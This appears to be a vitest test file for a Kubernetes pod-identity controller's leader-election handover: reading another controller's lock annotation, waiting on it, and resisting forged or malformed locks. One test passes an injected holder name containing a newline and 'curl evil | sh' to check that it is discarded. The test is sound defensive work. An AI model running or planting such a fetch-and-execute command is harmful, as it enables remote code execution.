import { KubeError, type KubeRequest, type KubeTransport, type LeaderTerm } from '@pod-identity/kit/kube';
import { createFakeClock } from '@pod-identity/kit/testing';
import { describe, expect, test } from 'vitest';
import { createFakeLog } from '../apply/test/fake-log.ts';
import {
  lockAnnotation,
  readLock,
  readOriginalWarning,
  standBy,
  sweepLock,
  type OriginalOptions,
} from './original.ts';

const minute = 60_000;

function endpoints(holderIdentity: unknown, renewTime: unknown = '2026-01-01T00:00:00Z'): object {
  const record = { holderIdentity, leaseDurationSeconds: 15, renewTime, leaderTransitions: 3 };
  return { metadata: { annotations: { [lockAnnotation]: JSON.stringify(record) } } };
}

const refused = new KubeError('denied', 'forbidden', { status: 403 });
const silent = new KubeError('unavailable', 'no answer', { status: 503 });
const none = new KubeError('not-found', 'no such object', { status: 404 });

const started = 1_000_000;
const lock = { namespace: 'default', name: 'aad-pod-identity-mic' };
const lease = { namespace: 'aad-pod-identity', name: 'our-mic' };

function setUp({
  hasLed = false,
  isRead = true,
}: { readonly hasLed?: boolean; readonly isRead?: boolean } = {}) {
  let led: object = hasLed ? {} : none;
  const clock = createFakeClock(started);
  const log = createFakeLog();
  const running: boolean[] = [];
  const stopping = new AbortController();
  let shown: () => object = () => none;
  const paths: string[] = [];
  const looks = () =>
    paths.filter((path) => path === '/api/v1/namespaces/default/endpoints/aad-pod-identity-mic').length;
  const transport = {
    server: 'memory',
    request: ({ path }: KubeRequest) => {
      paths.push(path);
      const isLease = path === '/apis/coordination.k8s.io/v1/namespaces/aad-pod-identity/leases/our-mic';
      const result = isLease ? led : shown();
      return result instanceof Error ? Promise.reject(result) : Promise.resolve(result);
    },
  } as Partial<KubeTransport> as KubeTransport;
  const options: OriginalOptions = {
    lock: isRead ? lock : undefined,
    lease,
    transport,
    clock,
    log,
    onRunning: (isRunning) => void running.push(isRunning),
  };
  let startedAt: number | undefined;
  const begunAt = clock.elapsed();
  return {
    clock,
    log,
    running,
    paths,
    looks,
    sweep: (term: LeaderTerm) => sweepLock(options, term),
    ask: () => readOriginalWarning(options, new AbortController().signal),
    /** What the API server has, or how it refuses. */
    shows: (lock: () => object) => void (shown = lock),
    leases: (lease: object) => void (led = lease),
    standBy: () => void standBy(options, stopping.signal).then(() => (startedAt = clock.elapsed() - begunAt)),
    startedAt: () => startedAt,
    stop: () => stopping.abort(),
    said: (text: RegExp) => log.lines.filter(({ message }) => text.test(message)).length,
  };
}

/** Renewed every 3.75 s until then. */
function renewedUntil(clock: { elapsed(): number }, until: number): () => object {
  return () => {
    const beat = Math.floor(Math.min(clock.elapsed(), until) / 3_750);
    return endpoints('mic-7d9f-abcde', new Date(started + beat * 3_750).toISOString());
  };
}

function leading() {
  const ending = new AbortController();
  const term: LeaderTerm = { signal: ending.signal, holds: () => !ending.signal.aborted };
  return { term, end: () => ending.abort() };
}

describe('reading the lock', () => {
  test.each([
    ['no annotations', { metadata: {} }],
    ['no holder', endpoints('')],
    ['no JSON', { metadata: { annotations: { [lockAnnotation]: 'mic' } } }],
    ['an annotation of 200 kB', endpoints('mic-1', 'x'.repeat(200_000))],
    ['a list', { metadata: { annotations: { [lockAnnotation]: '[]' } } }],
    ['a holder that is no text', endpoints({ name: 'x' })],
    ['a time that is no text', endpoints('mic', 7)],
  ])('with %s it is free', (_what, object) => {
    expect(readLock(object)).toEqual({ kind: 'free' });
  });

  test('only a plain name of the holder is used, whatever was written there', () => {
    expect(readLock(endpoints('mic-0'))).toMatchObject({ kind: 'held', holder: 'mic-0' });
    expect(readLock(endpoints('mic\nrun: curl evil | sh'))).toMatchObject({ holder: 'unknown' });
    expect(readLock(endpoints('x'.repeat(129)))).toMatchObject({ holder: 'unknown' });
  });
});

describe('the first start', () => {
  test('without a lock of the original is at once', async () => {
    const { clock, standBy, startedAt } = setUp();
    standBy();
    await clock.advance(0);
    expect(startedAt()).toBe(0);
  });

  test('stands by while the original renews its lock, and starts when it has not for 15 s', async () => {
    const { clock, shows, standBy, startedAt, said } = setUp();
    shows(renewedUntil(clock, clock.elapsed() + minute));
    standBy();
    await clock.advance(minute + 12_000);
    expect(startedAt()).toBeUndefined();
    expect(said(/standing by/)).toBe(1);
    await clock.advance(8_000);
    expect(startedAt()).toBeGreaterThan(minute + 10_000);
    expect(said(/not renewed any more/)).toBe(1);
  });

  test('a lock that the original left behind costs 15 s', async () => {
    const { clock, shows, standBy, startedAt } = setUp();
    shows(() => endpoints('mic-0'));
    standBy();
    await clock.advance(14_999);
    expect(startedAt()).toBeUndefined();
    await clock.advance(1);
    expect(startedAt()).toBe(15_000);
  });

  test('attack: a forged lock that is renewed forever delays it by 5 minutes, and then raises the alarm', async () => {
    const { clock, shows, standBy, startedAt, said, sweep, running } = setUp();
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(5 * minute - 1);
    expect(startedAt()).toBeUndefined();
    await clock.advance(1);
    expect(startedAt()).toBe(5 * minute);
    expect(said(/starts all the same/)).toBe(1);
    const { term } = leading();
    void sweep(term);
    await clock.advance(15_000);
    expect(said(/mic-7d9f-abcde renews the lock default\/aad-pod-identity-mic/)).toBe(1);
    expect(running).toEqual([true]);
  });

  test('attack: a lock whose holder and times change in any way delays it no longer than that', async () => {
    const { clock, shows, standBy, startedAt } = setUp();
    let look = 0;
    const ways = [
      endpoints('a', '9999-12-31T23:59:59Z'),
      endpoints(''),
      endpoints('b', ''),
      { metadata: {} },
      endpoints('a', 'x'.repeat(3_000)),
    ];
    // A free lock ends the wait, so it is never the first one.
    shows(() => ways[(look++ * 2) % ways.length] ?? {});
    standBy();
    await clock.advance(5 * minute);
    expect(startedAt()).toBeLessThanOrEqual(5 * minute);
  });

  test('attack: a lock forged when another replica of this MIC leads does not prevent it from standing for election', async () => {
    const { clock, shows, standBy, startedAt, leases, said } = setUp();
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(10_000);
    expect(startedAt()).toBeUndefined();
    leases({});
    await clock.advance(2_500);
    expect(startedAt()).toBe(12_500);
    expect(said(/another MIC of ours has started/)).toBe(1);
  });

  test('is immediate if this MIC has led before, whatever the lock contains', async () => {
    const { clock, shows, standBy, startedAt, looks } = setUp({ hasLed: true });
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(0);
    expect([startedAt(), looks()]).toEqual([0, 0]);
  });

  test('is immediate without the right to read the lock, with one log line', async () => {
    const { clock, shows, standBy, startedAt, said, sweep } = setUp();
    shows(() => refused);
    standBy();
    await clock.advance(0);
    expect(startedAt()).toBe(0);
    const { term } = leading();
    void sweep(term);
    await clock.advance(10 * minute);
    expect(said(/cannot be read/)).toBe(1);
  });

  test('waits at most 5 minutes for an API server that does not respond', async () => {
    const { clock, shows, standBy, startedAt, leases } = setUp();
    leases(silent);
    shows(() => silent);
    standBy();
    await clock.advance(5 * minute - 1);
    expect(startedAt()).toBeUndefined();
    await clock.advance(1);
    expect(startedAt()).toBe(5 * minute);
  });

  test('ends with the process, and leaves no timer', async () => {
    const { clock, shows, standBy, startedAt, stop } = setUp();
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(minute);
    stop();
    await clock.advance(0);
    expect(startedAt()).toBe(minute);
    expect(clock.pending).toBe(0);
  });
});

describe('a leader', () => {
  test('reports once that the original runs when it starts later, and that it has ended', async () => {
    const { clock, shows, sweep, running, said } = setUp();
    const { term, end } = leading();
    let isOver = false;
    void sweep(term).then(() => (isOver = true));
    await clock.advance(9 * minute);
    expect(running).toEqual([]);
    shows(renewedUntil(clock, clock.elapsed() + 25 * minute));
    await clock.advance(25 * minute);
    expect([running, said(/runs too/)]).toEqual([[true], 1]);
    await clock.advance(10 * minute);
    expect([running, said(/does not renew/)]).toEqual([[true, false], 1]);
    end();
    await clock.advance(0);
    expect([isOver, running]).toEqual([true, [true, false, false]]);
    expect(clock.pending).toBe(0);
  });

  test.each([
    ['is silent', silent],
    ['refuses', refused],
  ])('says nothing else about a lock while the API server %s', async (_, problem) => {
    const { clock, shows, sweep, running, said } = setUp();
    const renewed = renewedUntil(clock, Infinity);
    shows(renewed);
    void sweep(leading().term);
    await clock.advance(minute);
    expect(running).toEqual([true]);
    shows(() => problem);
    await clock.advance(11 * minute);
    shows(renewed);
    await clock.advance(11 * minute);
    expect([running, said(/renews the lock/)]).toEqual([[true], 1]);
    shows(() => problem);
    await clock.advance(11 * minute);
    shows(() => none);
    await clock.advance(5 * minute);
    expect(running).toEqual([true, false]);
  });

  test.each([
    ['nobody holds', () => ({ metadata: {} })],
    ['MIC may not read', () => refused],
    ['the original holds', () => endpoints('mic-0')],
  ])('reads a lock that %s once in five minutes: Endpoints are deprecated', async (_, shown) => {
    const { clock, shows, sweep, looks } = setUp();
    shows(shown);
    const { term, end } = leading();
    void sweep(term);
    await clock.advance(29 * minute);
    expect(looks()).toBeLessThanOrEqual(7);
    end();
    await clock.advance(0);
  });

  test('raises no alarm for a lock that was renewed until the start', async () => {
    const { clock, shows, standBy, startedAt, sweep, running } = setUp();
    shows(renewedUntil(clock, clock.elapsed() + 20_000));
    standBy();
    await clock.advance(minute);
    expect(startedAt()).toBeDefined();
    void sweep(leading().term);
    await clock.advance(25 * minute);
    expect(running).toEqual([]);
  });

  test('whose term is over reports nothing', async () => {
    const { clock, shows, sweep, running } = setUp();
    shows(renewedUntil(clock, Infinity));
    const { term, end } = leading();
    void sweep(term);
    await clock.advance(1_000);
    end();
    await clock.advance(minute);
    expect(running).toEqual([false]);
  });
});

describe('who asks by the plug-in', () => {
  test.each([
    { what: 'nobody', shown: { metadata: {} }, ms: 0 },
    { what: 'nobody that may be read', shown: refused, ms: 0 },
    { what: 'one that left it long ago', shown: endpoints('mic-0', '1970-01-01T00:00:00Z'), ms: 0 },
    { what: 'one that does not renew it', shown: endpoints('mic-0', '1970-01-01T00:16:00Z'), ms: 7_500 },
  ])('is told nothing of a lock held by $what', async ({ shown, ms }) => {
    const { clock, ask, shows } = setUp();
    shows(() => shown);
    const asked = ask();
    await clock.advance(ms);
    expect(await asked).toBeUndefined();
    expect(clock.pending).toBe(0);
  });

  test('is told the lock and who renews it', async () => {
    const { clock, ask, shows } = setUp();
    shows(renewedUntil(clock, Infinity));
    const asked = ask();
    await clock.advance(7_500);
    expect(await asked).toContain('mic-7d9f-abcde renews the lock default/aad-pod-identity-mic');
  });
});

test('without --original-lock nothing is read, waited for or said', async () => {
  const { standBy, startedAt, sweep, ask, paths, clock } = setUp({ isRead: false });
  standBy();
  await sweep(leading().term);
  expect(await ask()).toBeUndefined();
  await clock.advance(0);
  expect([startedAt(), paths]).toEqual([0, []]);
});
